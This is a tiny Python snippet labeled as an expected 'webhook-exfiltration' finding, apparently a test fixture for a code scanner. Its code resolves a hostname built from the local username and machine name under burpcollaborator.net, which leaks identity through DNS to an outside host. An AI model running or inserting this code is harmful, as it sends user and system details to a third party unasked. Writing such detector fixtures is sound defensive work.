# expect: 4 webhook-exfiltration
import socket, os, getpass
host = getpass.getuser() + '.' + socket.gethostname() + '.burpcollaborator.net'
socket.gethostbyname(host)
